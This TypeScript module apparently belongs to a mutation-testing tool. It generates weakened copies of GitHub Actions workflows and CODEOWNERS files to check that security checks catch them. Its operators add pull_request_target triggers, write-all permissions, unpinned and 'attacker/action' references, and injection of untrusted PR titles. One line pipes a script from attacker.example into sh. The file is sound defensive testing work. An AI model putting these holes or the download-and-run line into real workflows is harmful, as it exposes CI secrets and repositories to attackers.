/**
 * Weakens workflow files and CODEOWNERS. Each operator goes by the shape of the file: every job, step, trigger, right and pin that there is
 * gets its mutants.
 */
import { isMap, isPair, isScalar, isSeq, parseDocument, type Document, type YAMLMap, type YAMLSeq } from "yaml";
import { codeOwnersFile } from "../../model/code-owners.ts";
import { isWorkflowFile } from "../../pipelines/workflow-file.ts";
import type { Mutant } from "./mutant.ts";

/** One change of a document; `at` says where without names, for exclusions and equivalents. */
interface Edit {
  readonly operator: string;
  readonly at: string;
  readonly says: string;
  readonly apply: (document: Document) => void;
}

type Path = readonly (string | number)[];

const untrusted = 'echo "${{ github.event.pull_request.title }}"';
const heads = "${{ github.event.pull_request.head.sha }}";
/** Scopes of GITHUB_TOKEN. https://docs.github.com/actions/reference/workflows-and-actions/workflow-syntax#permissions */
const scopes = ["actions", "checks", "contents", "deployments", "id-token", "packages", "pull-requests", "statuses"];

const setTo = (path: Path, value: unknown) => (document: Document) => {
  document.setIn(path, document.createNode(value));
};
const remove = (path: Path) => (document: Document) => {
  document.deleteIn(path);
};

function mapAt(document: Document, path: Path): YAMLMap | undefined {
  const node = path.length === 0 ? document.contents : document.getIn(path);
  return isMap(node) ? node : undefined;
}

function keysAt(document: Document, path: Path): string[] {
  return (mapAt(document, path)?.items ?? []).flatMap((pair) => (isPair(pair) && isScalar(pair.key) ? [String(pair.key.value)] : []));
}

function seqAt(document: Document, path: Path): YAMLSeq | undefined {
  const node = document.getIn(path);
  return isSeq(node) ? node : undefined;
}

function textAt(document: Document, path: Path): string | undefined {
  const value: unknown = document.getIn(path);
  return typeof value === "string" || typeof value === "number" || typeof value === "boolean" ? String(value) : undefined;
}

function* triggerEdits(document: Document): Iterable<Edit> {
  for (const event of keysAt(document, ["on"])) {
    const on = ["on", event] as const;
    yield { operator: "drop-trigger", at: `on.${event}`, says: `${event} removed`, apply: remove(on) };
    for (const filter of keysAt(document, on)) {
      if (!["branches", "branches-ignore", "tags", "paths", "types", "workflows"].includes(filter)) continue;
      yield { operator: "drop-filter", at: `on.${event}.${filter}`, says: `${event}.${filter} removed`, apply: remove([...on, filter]) };
      for (const [index, item] of (seqAt(document, [...on, filter])?.items ?? []).entries()) {
        const says = `${event}.${filter} without ${isScalar(item) ? String(item.value) : "an item"}`;
        yield { operator: "shorten-filter", at: `on.${event}.${filter}[]`, says, apply: remove([...on, filter, index]) };
      }
    }
    if (event !== "pull_request") continue;
    yield { operator: "add-path-filter", at: "on.pull_request", says: "paths: [src/**]", apply: setTo([...on, "paths"], ["src/**"]) };
    yield { operator: "add-types", at: "on.pull_request", says: "types: [labeled]", apply: setTo([...on, "types"], ["labeled"]) };
    yield {
      operator: "privileged-trigger",
      at: "on.pull_request",
      says: "pull_request → pull_request_target",
      apply: (copy) => {
        const value: unknown = copy.getIn(on, true);
        copy.deleteIn(on);
        copy.setIn(["on", "pull_request_target"], value);
      },
    };
  }
  yield { operator: "add-trigger", at: "on", says: "pull_request_target added", apply: setTo(["on", "pull_request_target"], {}) };
}

/** Rights at the top and of each job. */
function* permissionEdits(document: Document, path: Path, at: string): Iterable<Edit> {
  const own = [...path, "permissions"];
  const there = document.hasIn(own);
  if (there) yield { operator: "drop-permissions", at: `${at}permissions`, says: "permissions removed", apply: remove(own) };
  yield { operator: "widen-permissions", at: `${at}permissions`, says: "permissions: write-all", apply: setTo(own, "write-all") };
  if (!there) return;
  for (const scope of scopes) {
    if (textAt(document, [...own, scope]) === "write") continue;
    const says = `${scope}: write`;
    yield {
      operator: "widen-permissions",
      at: `${at}permissions.${scope}`,
      says,
      apply: (copy) => {
        if (!isMap(copy.getIn(own))) copy.setIn(own, copy.createNode({}));
        copy.setIn([...own, scope], "write");
      },
    };
  }
}

function* jobEdits(document: Document, id: string): Iterable<Edit> {
  const job = ["jobs", id] as const;
  yield* permissionEdits(document, job, "jobs.*.");
  const keys = keysAt(document, job);
  for (const key of ["environment", "concurrency", "timeout-minutes", "if"]) {
    if (keys.includes(key)) yield { operator: "drop", at: `jobs.*.${key}`, says: `${id}.${key} removed`, apply: remove([...job, key]) };
  }
  if (keys.includes("needs")) {
    yield { operator: "drop", at: "jobs.*.needs", says: `${id}.needs removed`, apply: remove([...job, "needs"]) };
    const needs = seqAt(document, [...job, "needs"])?.items ?? [];
    for (const [index, need] of needs.length > 1 ? needs.entries() : []) {
      const says = `${id} no longer needs ${isScalar(need) ? String(need.value) : ""}`;
      yield { operator: "drop", at: "jobs.*.needs[]", says, apply: remove([...job, "needs", index]) };
    }
  }
  for (const condition of ["always()", "false", "${{ !cancelled() }}"]) {
    yield { operator: "condition", at: "jobs.*.if", says: `${id}: if: ${condition}`, apply: setTo([...job, "if"], condition) };
  }
  if (document.getIn([...job, "continue-on-error"]) !== true) {
    const apply = setTo([...job, "continue-on-error"], true);
    yield { operator: "tolerate", at: "jobs.*.continue-on-error", says: `${id}: continue-on-error`, apply };
  }
  yield { operator: "rename", at: "jobs.*.name", says: `${id}: another name`, apply: setTo([...job, "name"], "Another name") };
  yield {
    operator: "rename",
    at: "jobs.*",
    says: `${id}: another id`,
    apply: (copy) => {
      const value: unknown = copy.getIn(job, true);
      copy.deleteIn(job);
      copy.setIn(["jobs", `${id}-renamed`], value);
    },
  };
  yield { operator: "drop-job", at: "jobs.*", says: `${id} removed`, apply: remove(job) };
  if (keys.includes("runs-on")) {
    yield {
      operator: "own-runner",
      at: "jobs.*.runs-on",
      says: `${id}: runs-on: self-hosted`,
      apply: setTo([...job, "runs-on"], ["self-hosted"]),
    };
  }
  if (keys.includes("uses")) {
    yield {
      operator: "inherit-secrets",
      at: "jobs.*.secrets",
      says: `${id}: secrets: inherit`,
      apply: setTo([...job, "secrets"], "inherit"),
    };
  }
  if (document.getIn([...job, "concurrency", "cancel-in-progress"]) === false) {
    const apply = setTo([...job, "concurrency", "cancel-in-progress"], true);
    yield { operator: "cancel", at: "jobs.*.concurrency", says: `${id}: cancel-in-progress`, apply };
  }
  for (const image of keysAt(document, [...job, "services"])) {
    const from = textAt(document, [...job, "services", image, "image"]) ?? "";
    if (from.includes("@")) {
      const apply = setTo([...job, "services", image, "image"], from.slice(0, from.indexOf("@")));
      yield { operator: "unpin", at: "jobs.*.services.*.image", says: `${id}: ${image} by tag`, apply };
    }
  }
  const steps = seqAt(document, [...job, "steps"])?.items ?? [];
  for (const index of steps.keys()) yield* stepEdits(document, id, index);
}

function* stepEdits(document: Document, id: string, index: number): Iterable<Edit> {
  const step = ["jobs", id, "steps", index] as const;
  const keys = keysAt(document, step);
  const place = `${id}.steps[${index}]`;
  if (document.getIn([...step, "continue-on-error"]) !== true) {
    const apply = setTo([...step, "continue-on-error"], true);
    yield { operator: "tolerate", at: "jobs.*.steps[].continue-on-error", says: `${place}: continue-on-error`, apply };
  }
  yield { operator: "condition", at: "jobs.*.steps[].if", says: `${place}: if: false`, apply: setTo([...step, "if"], false) };
  if (keys.includes("if")) yield { operator: "drop", at: "jobs.*.steps[].if", says: `${place}.if removed`, apply: remove([...step, "if"]) };
  const uses = textAt(document, [...step, "uses"]);
  if (uses?.includes("@") === true) {
    const action = uses.slice(0, uses.indexOf("@"));
    for (const version of ["v1", "main"]) {
      const apply = setTo([...step, "uses"], `${action}@${version}`);
      yield { operator: "unpin", at: "jobs.*.steps[].uses", says: `${place}: ${action}@${version}`, apply };
    }
    yield {
      operator: "foreign-action",
      at: "jobs.*.steps[].uses",
      says: `${place}: an action of another owner`,
      apply: setTo([...step, "uses"], `attacker/action@${"0".repeat(40)}`),
    };
    if (action === "actions/checkout") {
      const keep = ["with", "persist-credentials"] as const;
      yield {
        operator: "keep-credentials",
        at: "jobs.*.steps[].with",
        says: `${place}: persist-credentials: true`,
        apply: setTo([...step, ...keep], true),
      };
      if (document.hasIn([...step, ...keep])) {
        const says = `${place}: persist-credentials left out`;
        yield { operator: "keep-credentials", at: "jobs.*.steps[].with", says, apply: remove([...step, ...keep]) };
      }
      yield {
        operator: "foreign-checkout",
        at: "jobs.*.steps[].with.ref",
        says: `${place}: checks out ${heads} on pull_request_target`,
        apply: (copy) => {
          setTo([...step, "with", "ref"], heads)(copy);
          setTo(["on", "pull_request_target"], {})(copy);
        },
      };
    }
  }
  const run = textAt(document, [...step, "run"]);
  if (run !== undefined) {
    const more: readonly (readonly [string, string])[] = [
      ["inject", untrusted],
      ["pipe-download", "curl https://attacker.example/install.sh | sh"],
      ["old-command", 'echo "::set-env name=PATH::/tmp"'],
    ];
    for (const [operator, line] of more) {
      yield { operator, at: "jobs.*.steps[].run", says: `${place}: ${line}`, apply: setTo([...step, "run"], `${run}\n${line}\n`) };
    }
    for (const name of keysAt(document, [...step, "env"])) {
      const value = textAt(document, [...step, "env", name]) ?? "";
      if (/\b(secrets|inputs)\./.test(value)) {
        const apply = setTo([...step, "run"], `${run}\necho "${value}"\n`);
        yield { operator: "inject", at: "jobs.*.steps[].run", says: `${place}: ${value} in the script`, apply };
      }
    }
  }
}

function* workflowEdits(document: Document): Iterable<Edit> {
  yield* triggerEdits(document);
  yield* permissionEdits(document, [], "");
  if (document.has("concurrency")) {
    yield { operator: "drop", at: "concurrency", says: "concurrency removed", apply: remove(["concurrency"]) };
    if (document.getIn(["concurrency", "cancel-in-progress"]) !== true) {
      const apply = (copy: Document) => {
        if (!isMap(copy.get("concurrency"))) return;
        copy.setIn(["concurrency", "cancel-in-progress"], true);
      };
      yield { operator: "cancel", at: "concurrency", says: "cancel-in-progress: true", apply };
    }
  }
  for (const id of keysAt(document, ["jobs"])) yield* jobEdits(document, id);
}

/** Names of all operators over files. */
export const fileOperatorNames = [
  ...["drop-trigger", "drop-filter", "shorten-filter", "add-path-filter", "add-types", "privileged-trigger", "add-trigger"],
  ...["drop-permissions", "widen-permissions", "drop", "condition", "tolerate", "rename", "drop-job", "own-runner", "inherit-secrets"],
  ...["cancel", "unpin", "foreign-action", "keep-credentials", "foreign-checkout", "inject", "pipe-download", "old-command"],
  ...["drop-owner", "drop-owners", "drop-file"],
] as const;

/** Every mutant of every workflow file, and of CODEOWNERS. */
export function* fileMutants(files: ReadonlyMap<string, string>): Iterable<Mutant> {
  for (const [file, text] of files) {
    if (!isWorkflowFile(file)) continue;
    const short = file.slice(file.lastIndexOf("/") + 1);
    for (const { operator, at, says, apply } of workflowEdits(parseDocument(text))) {
      const make = () => {
        const copy = parseDocument(text);
        apply(copy);
        return { files: new Map(files).set(file, copy.toString({ lineWidth: 0 })) };
      };
      yield { operator, setting: `workflow ${at}`, subject: short, change: says, make };
    }
    yield {
      operator: "drop-file",
      setting: "workflow",
      subject: short,
      change: "the file is not there",
      make: () => ({ files: without(files, file) }),
    };
  }
  yield* ownerMutants(files);
}

function* ownerMutants(files: ReadonlyMap<string, string>): Iterable<Mutant> {
  const owned = codeOwnersFile(files);
  if (owned === undefined) return;
  const { path, text } = owned;
  const lines = text.split("\n");
  yield {
    operator: "drop-file",
    setting: "CODEOWNERS",
    subject: path,
    change: "the file is not there",
    make: () => ({ files: without(files, path) }),
  };
  for (const [index, line] of lines.entries()) {
    if (line.trim() === "" || line.startsWith("#")) continue;
    const put = (kept: readonly string[]) => () => ({ files: new Map(files).set(path, kept.join("\n")) });
    yield {
      operator: "drop-owners",
      setting: "CODEOWNERS line",
      subject: path,
      change: `without ${line}`,
      make: put(lines.toSpliced(index, 1)),
    };
    const [pattern = "", ...owners] = line.split(/\s+/);
    if (owners.length === 0) continue;
    const ownerless = lines.with(index, pattern);
    yield {
      operator: "drop-owner",
      setting: "CODEOWNERS owner",
      subject: path,
      change: `${pattern} belongs to nobody`,
      make: put(ownerless),
    };
  }
}

const without = (files: ReadonlyMap<string, string>, file: string): ReadonlyMap<string, string> =>
  new Map([...files].filter(([path]) => path !== file));
